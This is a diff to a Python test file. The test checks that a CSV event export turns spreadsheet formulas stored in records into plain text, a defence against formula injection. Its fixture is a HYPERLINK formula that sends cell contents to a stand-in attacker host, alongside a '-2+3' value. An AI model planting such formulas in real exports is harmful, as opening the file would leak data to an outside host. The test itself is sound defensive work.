@@ -4,6 +4,7 @@ import csv
 import io
 
 from cooperation.models import Delegation
+from cooperation.records import derived
 
 FORMULA = '=HYPERLINK("https://attacker.example/?"&A1,"Open")'
 
@@ -15,7 +16,7 @@ def read_csv(response):
 
 def test_a_formula_in_a_record_reaches_a_spreadsheet_as_text(client, admin_client, world):
     Delegation.objects.filter(pk=world.published.pk).update(title=FORMULA, summary="-2+3")
-    Delegation.objects.filter(pk=world.published.pk).refresh_search()
+    derived.refresh([world.published.pk])
 
     header, *rows = read_csv(client.get("/events/export.csv"))
     row = dict(zip(header, rows[0], strict=True))
